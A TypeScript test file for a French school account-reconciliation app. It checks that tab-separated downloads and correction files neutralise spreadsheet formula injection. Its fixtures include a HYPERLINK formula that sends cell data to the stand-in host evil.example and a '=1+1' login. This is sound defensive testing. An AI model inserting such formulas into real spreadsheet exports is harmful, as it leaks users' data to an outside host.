import { describe, expect, it } from 'vitest';
import type { PronoteAccount } from '../../src/pronote/model.js';
import { AGENT, createTestApp } from '../helpers/test-app.js';

const UAI = '0130098Y';
const FORMULA_NOM = '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")';

const account = (id: string, nom: string, prenom: string, dateNaissance: string): PronoteAccount =>
  ({
    id,
    uai: UAI,
    profile: 'eleve',
    nom,
    prenom,
    dateNaissance,
    casId: null,
    pronoteEntId: null,
    classe: '3A',
    espaceParents: null,
    email: null,
  }) as PronoteAccount;

/** A school whose imported names and ENT logins carry spreadsheet formulas. */
async function schoolWithFormulas() {
  const api = await createTestApp({ viewer: AGENT });
  await api.pronote.loadSchool(
    {
      school: { uai: UAI, name: 'Collège Formule' },
      accounts: [
        account('f-1', FORMULA_NOM, 'Léa', '2011-02-03'),
        account('f-2', 'MARTIN', 'Paul', '2011-04-05'),
      ],
      links: [],
    },
    { replace: false },
  );
  await api.ent.replaceSchool(UAI, [
    {
      login: 'lea.formule',
      uai: UAI,
      nom: FORMULA_NOM,
      prenom: 'Léa',
      dateNaissance: '2011-02-03',
      profiles: ['eleve'],
    },
    {
      login: '=1+1',
      uai: UAI,
      nom: 'MARTIN',
      prenom: 'Paul',
      dateNaissance: '2011-04-05',
      profiles: ['eleve'],
    },
  ]);
  return api;
}

/** Every cell of a tab-separated download that a spreadsheet would run as a formula. */
const formulaCells = (tsv: string) =>
  tsv
    .split(/\r\n/)
    .flatMap((line) => line.split('\t'))
    .filter((cell) => /^[=+\-@]/.test(cell));

/** Finding 7: tab-separated downloads opened in a spreadsheet run nothing. */
describe('spreadsheet formulas in downloads and corrections', () => {
  it('the CAS identifiers to paste carry no formula, and a login starting with = is not a safe correction', async () => {
    const api = await schoolWithFormulas();
    const report = (await api.json(`/api/reconciliation/${UAI}`)).body as {
      rows: Array<{ ent: { login: string }; finding: { kind: string; blocked?: string | null } }>;
    };
    const formulaLogin = report.rows.find((r) => r.ent.login === '=1+1');
    expect(formulaLogin?.finding).toMatchObject({ kind: 'match', blocked: 'invalid-login' });
    const res = await api.app.request(`/reconciliation/${UAI}/identifiants-cas.tsv`);
    expect(res.status).toBe(200);
    const tsv = await res.text();
    expect(tsv).not.toContain('=1+1');
    expect(tsv).toContain('HYPERLINK');
    expect(formulaCells(tsv)).toEqual([]);
  });

  it('the rows of a fix to paste into PRONOTE carry no formula', async () => {
    const api = await schoolWithFormulas();
    const page = await api.json(`/api/reconciliation/${UAI}`);
    const fingerprint = (page.body as { safe: { fingerprint: string } }).safe.fingerprint;
    const written = await api.json(`/api/reconciliation/${UAI}/corrections`, { fingerprint });
    expect(written.status).toBe(201);
    const entry = (await api.pronote.listAudit({ uai: UAI, limit: 1 }))[0];
    const res = await api.app.request(`/corrections/lot/${entry?.batchId}/lignes.tsv?liste=eleve`);
    expect(res.status).toBe(200);
    const tsv = await res.text();
    expect(tsv).toContain('HYPERLINK');
    expect(formulaCells(tsv)).toEqual([]);
  });
});
